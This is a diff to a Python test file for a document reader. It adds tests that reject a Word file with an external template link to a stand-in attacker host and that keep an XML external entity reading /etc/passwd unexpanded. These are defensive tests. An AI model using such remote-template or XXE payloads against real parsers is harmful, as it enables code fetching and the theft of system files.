@@ -91,6 +91,15 @@ def test_a_word_document_is_read() -> None:
             ),
             "from elsewhere",
         ),
+        (
+            docx(
+                more={
+                    "word/_rels/settings.xml.rels": "<Relationships><Relationship TargetMode = 'External' Id='r'"
+                    " Target='http://evil.example/x' Type='http://x.example/attachedTemplate'/></Relationships>"
+                }
+            ),
+            "from elsewhere",
+        ),
         (docx(body="".join(f"<w:p a='{number}'/>" for number in range(21_000))), "tags"),
         (docx(body="<w:p>"), "cannot be read"),
         (b"PK\x03\x04 nothing", "no Word document"),
@@ -238,3 +247,9 @@ def test_a_headline_cannot_hold_a_line_of_a_header(sign: str) -> None:
 def test_read_docx_names_the_faults() -> None:
     with pytest.raises(Rejected):
         read_docx(b"")
+
+
+def test_entities_of_a_page_are_neither_read_nor_text() -> None:
+    source = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><h1>Acme &x; opens</h1><p>Acme opened a plant.</p>'
+    reading = read(source.encode(), "x.html")
+    assert [span.text for span in reading.spans] == ["Acme &x; opens", "Acme opened a plant."]
